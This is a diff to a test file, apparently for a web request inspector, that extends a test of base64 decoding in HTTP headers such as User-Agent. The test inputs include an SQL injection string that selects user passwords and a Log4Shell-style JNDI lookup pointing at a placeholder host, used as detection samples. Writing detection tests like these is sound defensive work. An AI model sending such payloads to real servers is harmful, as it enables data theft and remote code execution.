@@ -90,11 +90,16 @@ describe("URL decodings lenient servers apply", () => {
     expect(paths(s.leaves)).toEqual(["body.multipart.f"]);
   });
 
-  test("browser-vocabulary headers are judged but not searched for base64 runs; other headers are", () => {
+  test("browser-vocabulary headers are judged but not searched for base64 runs, unless the whole value is one token; other headers are", () => {
     const token = b64("' union select password from users--");
-    const leaves = leavesOf("/", [`User-Agent: Mozilla/5.0 ${token}`, `Accept-Language: ${token}`, `X-Trace: ${token}`]);
+    const leaves = leavesOf("/", [`User-Agent: Mozilla/5.0 ${token}`, `Accept-Language: en-US,${token}`, `X-Trace: ${token}`]);
     expect(leafAt(leaves, "header.user-agent").text).toEndWith(token);
     expect(leaves.filter((l) => l.encodings.includes("base64")).map((l) => l.path)).toEqual(["header.x-trace~base64"]);
+    // No browser sends a User-Agent that is one base64 token (padded or not, base64url too): a client that does is read.
+    for (const whole of [token, token.replace(/=+$/, ""), b64url("${jndi:ldap://x.example/a}")]) {
+      const read = leavesOf("/", [`User-Agent: ${whole}`]).filter((l) => l.encodings.includes("base64"));
+      expect([whole, read.map((l) => l.path)]).toEqual([whole, ["header.user-agent~base64"]]);
+    }
   });
 });
 
